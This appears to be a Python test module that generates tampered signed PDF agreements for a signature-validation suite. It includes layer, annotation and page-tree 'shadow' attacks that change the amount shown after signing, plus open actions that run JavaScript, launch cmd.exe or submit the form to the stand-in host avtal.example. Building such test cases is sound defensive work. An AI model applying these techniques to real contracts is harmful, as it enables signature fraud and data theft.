"""Attacks in the document around the pages: layers, shadows, actions, form, attachments, what is read but not seen."""

from collections.abc import Callable
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from tests.returns import acts, paint
from tests.returns.attack_annotations import annotation, built_field, put
from tests.returns.attack_pages import draw_picture
from tests.returns.naming import Act, act, after_all, table
from tests.returns.setup import Setup, amount_at
from tests.returns.update import update

SCRIPT = "app.alert('Avgiften är betald.');"


def layers(pdf: Pdf, setup: Setup, true_shown: bool, words: bool = True) -> None:
    """Two layers over the amount, of which one is shown: white with the amount as it is, and white with another."""
    page = pdf.pages[setup.page - 1]
    ours, theirs = (pdf.make_indirect(Dictionary(Type=Name.OCG, Name=name)) for name in ("Ja", "Nej"))
    resources = page.obj.Resources
    resources.Properties = Dictionary(FalskJa=ours, FalskNej=theirs)
    paint.add_resource(page, "/Font", "/FalskF", paint.helvetica(pdf))
    box = paint.grown(setup.box)
    shown = b"/OC /FalskJa BDC " + paint.over(box, amount_at(setup).replace("\xa0", " ")) + b" EMC\n"
    hidden = b"/OC /FalskNej BDC " + paint.over(box, paint.OTHER if words else "") + b" EMC"
    page.contents_add(pdf.make_stream(shown + hidden))
    on, off = (ours, theirs) if true_shown else (theirs, ours)
    default = Dictionary(Order=Array([ours, theirs]), ON=Array([on]), OFF=Array([off]))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([ours, theirs]), D=default)


def flip(pdf: Pdf) -> None:
    """What was shown is hidden, and the other way round."""
    default = pdf.Root.OCProperties.D
    default.ON, default.OFF = Array(list(default.OFF)), Array(list(default.ON))


def _rewritten(setup: Setup, edit: Callable[[Pdf], None]) -> bytes:
    return acts.saved(setup.built, edit)


def _layered(name: str, doc: str, words: bool, rewrite: bool) -> Act:
    def done(setup: Setup) -> bytes:
        prepare = partial(layers, setup=setup, true_shown=True, words=words)
        prepared = _rewritten(setup, prepare) if rewrite else update(setup.built, prepare)
        return update(acts.sign_all(setup, prepared), flip)

    return act(name, doc, done)


def layer_added_after_all(pdf: Pdf, setup: Setup) -> None:
    """A layer that shows another amount comes after everybody signed."""
    layers(pdf, setup, true_shown=False)


def layer_for_print_only(pdf: Pdf, setup: Setup) -> None:
    """On the screen the amount is right; printed it is another."""
    layers(pdf, setup, true_shown=True)
    ours, theirs = pdf.Root.OCProperties.OCGs
    theirs.Usage = Dictionary(Print=Dictionary(PrintState=Name.ON), View=Dictionary(ViewState=Name.OFF))
    ours.Usage = Dictionary(Print=Dictionary(PrintState=Name.OFF), View=Dictionary(ViewState=Name.ON))
    both = Array([ours, theirs])
    pdf.Root.OCProperties.D.AS = Array(
        [Dictionary(Event=event, OCGs=both, Category=Array([kind])) for event, kind in _EVENTS]
    )


_EVENTS = ((Name.Print, Name.Print), (Name.View, Name.View))


def shadow_hide_annotation(setup: Setup) -> bytes:
    """The signers see a stamp with the true amount over another one; after they signed the stamp is taken away."""

    def prepare(pdf: Pdf) -> None:
        paint.retype(pdf, setup.page, amount_at(setup))
        box = paint.grown(setup.box)
        put(pdf, setup.page, annotation(pdf, "Stamp", box, amount_at(setup).replace("\xa0", " ")))

    def take_away(pdf: Pdf) -> None:
        page = pdf.pages[setup.page - 1].obj
        page.Annots = Array([one for one in page.Annots if one.Subtype != Name.Stamp])

    return update(acts.sign_all(setup, _rewritten(setup, prepare)), take_away)


def shadow_hide_picture(setup: Setup) -> bytes:
    """The signers see a picture of the true amount over another one; after they signed the picture is made empty."""

    def prepare(pdf: Pdf) -> None:
        paint.retype(pdf, setup.page, amount_at(setup))
        draw_picture(pdf, setup, amount_at(setup).replace("\xa0", " "))

    def empty(pdf: Pdf) -> None:
        xobjects = pdf.pages[setup.page - 1].obj.Resources.XObject
        xobjects["/FalskBild"] = paint.empty_form(pdf, setup.box)

    return update(acts.sign_all(setup, _rewritten(setup, prepare)), empty)


def shadow_replace_field_value(setup: Setup) -> bytes:
    """The signers see the true amount in a form field; after they signed it looks like another, its value the same."""
    amount = amount_at(setup).replace("\xa0", " ")
    box = paint.grown(setup.box)

    def prepare(pdf: Pdf) -> None:
        made = Dictionary(Type=Name.Annot, Subtype=Name.Widget, F=4, FT=Name.Tx, T="Belopp", V=amount)
        made.DA, made.Rect = "/Helv 8 Tf 0 g", paint.numbers(box)
        made.AP = Dictionary(N=paint.form(pdf, box, amount))
        one = pdf.make_indirect(made)
        put(pdf, setup.page, one)
        pdf.Root.AcroForm.Fields.append(one)

    def change(pdf: Pdf) -> None:
        built_field(pdf, "Belopp").AP = Dictionary(N=paint.form(pdf, box))

    return update(acts.sign_all(setup, _rewritten(setup, prepare)), change)


def shadow_hide_and_replace(setup: Setup) -> bytes:
    """The signed file holds a second page tree that nothing points to; after all signed, the catalog points to it."""

    def prepare(pdf: Pdf) -> None:
        page = pdf.make_indirect(Dictionary(pdf.pages[setup.page - 1].obj))
        text = paint.over(paint.grown(setup.box))
        first = page.Contents
        contents = list(first) if isinstance(first, Array) else [first]
        page.Contents = Array([*contents, pdf.make_stream(text)])
        page.Resources = Dictionary(page.Resources)
        page.Resources.Font = Dictionary(page.Resources.Font)
        page.Resources.Font["/FalskF"] = paint.helvetica(pdf)
        kids = list(pdf.Root.Pages.Kids)
        kids[setup.page - 1] = page
        pdf.Root.PieceInfo = Dictionary(
            Prov=Dictionary(Private=pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=Array(kids), Count=len(kids))))
        )

    def switch(pdf: Pdf) -> None:
        pdf.Root.Pages = pdf.Root.PieceInfo.Prov.Private

    return update(acts.sign_all(setup, update(setup.built, prepare)), switch)


def open_action_javascript(pdf: Pdf, setup: Setup) -> None:
    """A script runs when the file is opened."""
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=SCRIPT)


def open_action_goes_to_last_page(pdf: Pdf, setup: Setup) -> None:
    """The file opens on its last page, so that the terms are not seen at once."""
    pdf.Root.OpenAction = Array([pdf.pages[-1].obj, Name.Fit])


def page_opened_script(pdf: Pdf, setup: Setup) -> None:
    """A script runs when the page with the amount is shown."""
    pdf.pages[setup.page - 1].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=SCRIPT))


def document_print_script(pdf: Pdf, setup: Setup) -> None:
    """A script runs before the file is printed."""
    pdf.Root.AA = Dictionary(WP=Dictionary(S=Name.JavaScript, JS=SCRIPT))


def named_javascript(pdf: Pdf, setup: Setup) -> None:
    """A script for the whole document stands in the name tree."""
    tree = Dictionary(Names=Array(["a", Dictionary(S=Name.JavaScript, JS=SCRIPT)]))
    names = pdf.Root.get("/Names", Dictionary())
    names.JavaScript = pdf.make_indirect(tree)
    pdf.Root.Names = names


def launch_on_open(pdf: Pdf, setup: Setup) -> None:
    """A program starts when the file is opened."""
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F="cmd.exe")


def address_on_open(pdf: Pdf, setup: Setup) -> None:
    """An address is fetched when the file is opened."""
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI="https://avtal.example/")


def submit_on_open(pdf: Pdf, setup: Setup) -> None:
    """The form is sent to the attacker when the file is opened."""
    target = Dictionary(FS=Name.URL, F="https://avtal.example/")
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=target, Flags=0)


def hide_signature_on_open(pdf: Pdf, setup: Setup) -> None:
    """A signature field is hidden when the file is opened."""
    pdf.Root.OpenAction = Dictionary(S=Name.Hide, T=setup.fields[0], H=True)


def other_file_on_open(pdf: Pdf, setup: Setup) -> None:
    """Another file is opened instead of this one."""
    pdf.Root.OpenAction = Dictionary(S=Name.GoToR, F="annat-avtal.pdf", D=Array([0, Name.Fit]))


def signature_field_script(pdf: Pdf, setup: Setup) -> None:
    """A script runs when a signed field is pointed at."""
    built_field(pdf, setup.fields[0]).AA = Dictionary(E=Dictionary(S=Name.JavaScript, JS=SCRIPT))


def bookmark_runs_script(pdf: Pdf, setup: Setup) -> None:
    """The first bookmark runs a script."""
    first = pdf.Root.Outlines.First
    if "/Dest" in first:
        del first["/Dest"]
    first.A = Dictionary(S=Name.JavaScript, JS=SCRIPT)


def bookmark_title_changed(pdf: Pdf, setup: Setup) -> None:
    """The first bookmark says another amount."""
    pdf.Root.Outlines.First.Title = f"Avgift {paint.OTHER}"


def portfolio_with_another_agreement(pdf: Pdf, setup: Setup) -> None:
    """Readers show an attached agreement instead of this one."""
    acts.attached(pdf, "avtal.pdf", paint.another_document(f"Avgiften är {paint.OTHER}."), "application/pdf")
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.H, D="avtal.pdf")


def attachment_called_agreement(pdf: Pdf, setup: Setup) -> None:
    """Another agreement is attached, and called the source of this one."""
    data = paint.another_document(f"Avgiften är {paint.OTHER}.")
    acts.attached(pdf, "avtal-signerat.pdf", data, "application/pdf", "/Source")


def xfa_form_added(pdf: Pdf, setup: Setup) -> None:
    """Readers that know XFA show the form in it instead of the pages."""
    body = f"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template>{paint.OTHER}</template></xdp:xdp>"
    pdf.Root.AcroForm.XFA = pdf.make_stream(body.encode("utf-8"))
    pdf.Root.NeedsRendering = True


def need_appearances_set(pdf: Pdf, setup: Setup) -> None:
    """Readers make the appearances of fields themselves, instead of showing those that were signed."""
    pdf.Root.AcroForm.NeedAppearances = True


def title_changed(pdf: Pdf, setup: Setup) -> None:
    """The window's title and the archive say another agreement."""
    pdf.docinfo["/Title"] = f"Avtal, avgift {paint.OTHER}"


def metadata_replaced(pdf: Pdf, setup: Setup) -> None:
    """The archive's metadata say another title and another author."""
    text = pdf.Root.Metadata.read_bytes()
    pdf.Root.Metadata.write(text.replace(b"<rdf:li", b"<rdf:li xml:space='preserve'").replace(b"avtal", b"oavtal"))


def language_changed(pdf: Pdf, setup: Setup) -> None:
    """The agreement is read aloud as if it were Finnish."""
    pdf.Root.Lang = "fi-FI"


def page_labels_changed(pdf: Pdf, setup: Setup) -> None:
    """The reader's page numbers begin at 7, as if pages had gone missing."""
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D, St=7)]))


def structure_actual_text(pdf: Pdf, setup: Setup) -> None:
    """A screen reader says another amount than the page shows."""
    _first_element(pdf).ActualText = f"Avgiften är {paint.OTHER}."


def structure_alt_text(pdf: Pdf, setup: Setup) -> None:
    """A screen reader describes a part of the agreement as something else."""
    _first_element(pdf).Alt = f"Avgiften är {paint.OTHER}."


def structure_tree_removed(pdf: Pdf, setup: Setup) -> None:
    """A screen reader no longer knows the order of the text."""
    del pdf.Root["/StructTreeRoot"]


def output_intent_changed(pdf: Pdf, setup: Setup) -> None:
    """The colours are said to be of another printing press."""
    pdf.Root.OutputIntents = Array([Dictionary(Type=Name.OutputIntent, S=Name.GTS_PDFX, OutputConditionIdentifier="X")])


def viewer_hides_its_tools(pdf: Pdf, setup: Setup) -> None:
    """The reader's own bar, which tells about signatures, is hidden."""
    pdf.Root.ViewerPreferences = Dictionary(HideToolbar=True, HideMenubar=True, HideWindowUI=True)


def field_renamed(pdf: Pdf, setup: Setup) -> None:
    """The two signed fields change names, so that each seems to have signed for the other."""
    one, other = built_field(pdf, setup.fields[0]), built_field(pdf, setup.fields[-1])
    one.T, other.T = other.T, one.T


def tooltip_changed(pdf: Pdf, setup: Setup) -> None:
    """What is said of a signed field, when it is pointed at or read aloud, is another party's name."""
    built_field(pdf, setup.fields[0]).TU = "Underskrift för en annan part"


def link_target_changed(pdf: Pdf, setup: Setup) -> None:
    """The links in the agreement go to the first page instead of where they say, or out of the file."""
    for page in pdf.pages:
        for one in page.obj.get("/Annots", Array()):
            if one.Subtype == Name.Link:
                one.A = Dictionary(S=Name.URI, URI="https://avtal.example/")
                if "/Dest" in one:
                    del one["/Dest"]


def _first_element(pdf: Pdf) -> pikepdf.Object:
    """The first element in the structure tree that has content of its own."""
    element = pdf.Root.StructTreeRoot
    while isinstance(element.K, Dictionary) or any(isinstance(kid, Dictionary) and "/S" in kid for kid in element.K):
        element = element.K if isinstance(element.K, Dictionary) else element.K[0]
        if "/K" not in element:
            break
    return element


ATTACKS = table(
    _layered("shadow-replace-layer", "Prepared before signing: flipped layers show another amount.", True, True),
    _layered("shadow-hide-layer", "Prepared before signing: flipped layers hide the amount.", False, True),
    _layered("shadow-replace-layer-in-update", "As an update of the built file: flipped layers.", True, False),
    shadow_hide_annotation,
    shadow_hide_picture,
    shadow_replace_field_value,
    shadow_hide_and_replace,
    *(
        after_all(change)
        for change in (
            layer_added_after_all,
            layer_for_print_only,
            open_action_javascript,
            open_action_goes_to_last_page,
            page_opened_script,
            document_print_script,
            named_javascript,
            launch_on_open,
            address_on_open,
            submit_on_open,
            hide_signature_on_open,
            other_file_on_open,
            signature_field_script,
            bookmark_runs_script,
            bookmark_title_changed,
            portfolio_with_another_agreement,
            attachment_called_agreement,
            xfa_form_added,
            need_appearances_set,
            title_changed,
            metadata_replaced,
            language_changed,
            page_labels_changed,
            structure_actual_text,
            structure_alt_text,
            structure_tree_removed,
            output_intent_changed,
            viewer_hides_its_tools,
            field_renamed,
            tooltip_changed,
            link_target_changed,
        )
    ),
)
